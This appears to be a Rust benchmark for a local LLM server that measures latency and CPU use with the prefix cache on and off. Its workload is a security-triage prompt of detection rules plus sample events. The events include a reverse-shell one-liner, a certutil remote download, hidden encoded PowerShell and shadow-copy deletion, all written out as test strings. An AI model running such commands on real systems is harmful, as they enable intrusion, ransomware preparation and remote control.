//! `sotto bench serve`: the daemon's HTTP path under the default budgets. Twenty sequential
//! chat requests share a long system prompt, with the prefix cache on and then off; meanwhile
//! a prober asks `/health` every 100 ms. Reports latency, CPU per 100 ms window, CPU per
//! request, cached prompt tokens, and `/health` latency while the model is busy.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use sotto_engine::{Engine, EngineConfig};
use sotto_governor::sampler::{Report, Sampler, figures};
use sotto_governor::{Budgets, Governor, SchedClass, available_cpus, percentile, process_cpu_time};
use sotto_server::{AppState, ModelName, Resources, Settings};

use crate::client::Client;

/// What to run.
#[derive(Debug, Clone)]
pub struct Options {
    pub model: PathBuf,
    pub model_id: String,
    pub requests: usize,
    pub max_tokens: u32,
}

/// A system prompt of about 600 tokens, the size of a real triage preamble.
pub fn system_prompt() -> String {
    let mut s = String::from(
        "You are the endpoint-security analyst of a small company. You read one event at a time and say whether it \
         shows attacker activity. Keep answers to one sentence.\n\nGuidance:\n",
    );
    let rules = [
        "Living-off-the-land binaries (certutil, mshta, regsvr32, rundll32, bitsadmin) fetching remote content are \
         malicious unless an administrator clearly ran them for maintenance.",
        "PowerShell with -enc, -w hidden, IEX or DownloadString is malicious when started by Office, a browser or a \
         script host.",
        "Shadow copy deletion, backup catalog deletion and boot recovery changes prepare ransomware.",
        "Credential access: LSASS dumps, SAM hive exports, keychain dumps and mimikatz are malicious.",
        "Reverse shells through /dev/tcp, netcat -e or scripting one-liners are malicious.",
        "Service hosts, COM servers started with -Embedding, updaters, browsers and management agents are benign.",
        "Reconnaissance such as whoami, net group, nltest and systeminfo is suspicious unless routine.",
        "Scheduled tasks, services, launch agents and cron entries pointing into temporary folders are malicious.",
        "Clearing event logs or shell history hides activity and is malicious.",
        "Developer tools downloading packages (npm, pip, cargo, git) are benign in a developer's session.",
    ];
    for (i, r) in rules.iter().enumerate() {
        s.push_str(&format!("{}. {r}\n", i + 1));
    }
    s.push_str("\nAnswer with the verdict first: malicious, suspicious or benign.");
    s.repeat(2)
}

pub(crate) fn event(i: usize) -> String {
    const EVENTS: &[&str] = &[
        "certutil.exe -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe (parent cmd.exe)",
        "svchost.exe -k netsvcs -p -s Schedule (parent services.exe)",
        "powershell.exe -nop -w hidden -enc SQBFAFgA (parent winword.exe)",
        "/usr/bin/apt-get -qq update (parent unattended-upgrade)",
        "vssadmin.exe delete shadows /all /quiet (parent cmd.exe)",
        "bash -c 'sh -i >& /dev/tcp/198.51.100.4/4444 0>&1' (parent nginx)",
        "chrome.exe --type=renderer --lang=en-US (parent chrome.exe)",
        "whoami /all (parent cmd.exe, user CORP\\\\jdoe)",
    ];
    format!("Event {i}: {}", EVENTS[i % EVENTS.len()])
}

/// The daemon's HTTP server on a free loopback port, in this process, for a benchmark.
pub(crate) struct Daemon {
    pub addr: SocketAddr,
    runtime: tokio::runtime::Runtime,
    stop: tokio::sync::oneshot::Sender<()>,
    server: tokio::task::JoinHandle<std::io::Result<()>>,
}

impl Daemon {
    pub fn start(state: AppState) -> anyhow::Result<Daemon> {
        let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build()?;
        let listener = runtime.block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))?;
        let addr = listener.local_addr()?;
        let (stop, stop_rx) = tokio::sync::oneshot::channel::<()>();
        let router = sotto_server::app(state.clone());
        let server = runtime.spawn(sotto_server::serve(listener, router, state, async {
            let _ = stop_rx.await;
        }));
        Ok(Daemon { addr, runtime, stop, server })
    }

    /// Graceful shutdown; waits for the server to end.
    pub fn stop(self) -> anyhow::Result<()> {
        let _ = self.stop.send(());
        self.runtime.block_on(self.server)??;
        Ok(())
    }
}

struct Run {
    label: &'static str,
    latency_ms: Vec<f64>,
    health_ms: Vec<f64>,
    prompt_tokens: u64,
    cached_tokens: u64,
    cpu_s: f64,
    report: Report,
}

fn one(options: &Options, label: &'static str, prefix_cache: usize, cpus: f64) -> anyhow::Result<Run> {
    let budgets = Budgets::default();
    let governor = Governor::new(budgets, SchedClass::Idle, cpus);
    let plan = governor.plan();
    let paced = governor.stats();
    let config = EngineConfig {
        threads: plan.decode,
        threads_batch: plan.prefill,
        prefix_cache,
        ..EngineConfig::new(&options.model)
    };
    let engine = Arc::new(Engine::start(config, Box::new(governor))?);
    let gov = Resources::new(&budgets, cpus, plan.decode, plan.prefill);
    let name = ModelName { id: options.model_id.clone(), aliases: Vec::new(), created: 0 };
    let state = AppState::new(engine, None, name, Settings::default(), gov, paced);
    let daemon = Daemon::start(state)?;
    let addr = daemon.addr;

    let system = system_prompt();
    let client = Client::new(addr, Duration::from_secs(300));
    let probing = Arc::new(AtomicBool::new(true));
    let prober = {
        let (probing, client) = (probing.clone(), client.clone());
        std::thread::spawn(move || {
            let mut ms = Vec::new();
            while probing.load(Ordering::Relaxed) {
                let t = Instant::now();
                if client.get("/health").is_ok_and(|r| r.status == 200) {
                    ms.push(t.elapsed().as_secs_f64() * 1e3);
                }
                std::thread::sleep(Duration::from_millis(100));
            }
            ms
        })
    };
    let sampler = Sampler::start(std::process::id(), cpus);
    let cpu_before = process_cpu_time();
    let mut latency_ms = Vec::new();
    let (mut prompt_tokens, mut cached_tokens) = (0, 0);
    for i in 0..options.requests {
        let body = json!({
            "messages": [{"role": "system", "content": system}, {"role": "user", "content": event(i)}],
            "max_tokens": options.max_tokens,
        });
        let t = Instant::now();
        let reply = client.post("/v1/chat/completions", body.to_string())?;
        latency_ms.push(t.elapsed().as_secs_f64() * 1e3);
        anyhow::ensure!(reply.status == 200, "request {i}: {} {}", reply.status, reply.body);
        let v: Value = serde_json::from_str(&reply.body)?;
        prompt_tokens += v["usage"]["prompt_tokens"].as_u64().unwrap_or(0);
        cached_tokens += v["usage"]["prompt_tokens_details"]["cached_tokens"].as_u64().unwrap_or(0);
    }
    let cpu_s = (process_cpu_time() - cpu_before).as_secs_f64();
    let (report, _) = sampler.finish();
    probing.store(false, Ordering::Relaxed);
    let health_ms = prober.join().expect("prober");
    daemon.stop()?;
    Ok(Run { label, latency_ms, health_ms, prompt_tokens, cached_tokens, cpu_s, report })
}

/// Run both configurations; prints the table and returns the raw data.
pub fn run(options: &Options) -> anyhow::Result<Value> {
    let cpus = available_cpus();
    let runs = [one(options, "on", 64 << 20, cpus)?, one(options, "off", 0, cpus)?];
    println!(
        "{} sequential chat requests, ~{} system-prompt characters shared, {} tokens each; budgets 35/50, idle class; \
         {cpus} CPUs\n",
        options.requests,
        system_prompt().len(),
        options.max_tokens
    );
    println!(
        "| prefix cache | lat p50 ms | p95 | p99 | first | rest mean | proc CPU mean/p99/peak % | CPU s/request | cached/prompt tokens | /health p50/p99/max ms |"
    );
    println!("|---|---|---|---|---|---|---|---|---|---|");
    let mut data = Vec::new();
    for r in &runs {
        let rest = &r.latency_ms[1..];
        let rest_mean = rest.iter().sum::<f64>() / rest.len().max(1) as f64;
        let p = &r.report.process;
        println!(
            "| {} | {:.0} | {:.0} | {:.0} | {:.0} | {:.0} | {:.1}/{:.1}/{:.1} | {:.2} | {}/{} | {:.1}/{:.1}/{:.1} |",
            r.label,
            percentile(&r.latency_ms, 50.0),
            percentile(&r.latency_ms, 95.0),
            percentile(&r.latency_ms, 99.0),
            r.latency_ms[0],
            rest_mean,
            p.mean,
            p.p99,
            p.peak,
            r.cpu_s / r.latency_ms.len() as f64,
            r.cached_tokens,
            r.prompt_tokens,
            percentile(&r.health_ms, 50.0),
            percentile(&r.health_ms, 99.0),
            r.health_ms.iter().copied().fold(0.0, f64::max),
        );
        let h = figures(&r.health_ms);
        data.push(json!({
            "prefix_cache": r.label,
            "latency_ms": r.latency_ms,
            "health_ms": { "samples": r.health_ms.len(), "p50": h.p50, "p95": h.p95, "p99": h.p99, "max": h.peak },
            "prompt_tokens": r.prompt_tokens,
            "cached_tokens": r.cached_tokens,
            "cpu_s": r.cpu_s,
            "process_cpu": { "mean": p.mean, "p50": p.p50, "p95": p.p95, "p99": p.p99, "peak": p.peak },
            "system_cpu": { "mean": r.report.system.mean, "p99": r.report.system.p99, "peak": r.report.system.peak },
            "peak_rss": r.report.peak_rss,
        }));
    }
    let speedup = percentile(&runs[1].latency_ms, 50.0) / percentile(&runs[0].latency_ms, 50.0).max(1e-9);
    let cpu_ratio = runs[1].cpu_s / runs[0].cpu_s.max(1e-9);
    println!(
        "\nprefix cache on vs off, same run: p50 latency {speedup:.2}x lower, CPU per request {cpu_ratio:.2}x lower"
    );
    Ok(json!({ "requests": options.requests, "max_tokens": options.max_tokens, "cpus": cpus, "runs": data,
        "p50_speedup": speedup, "cpu_ratio": cpu_ratio }))
}
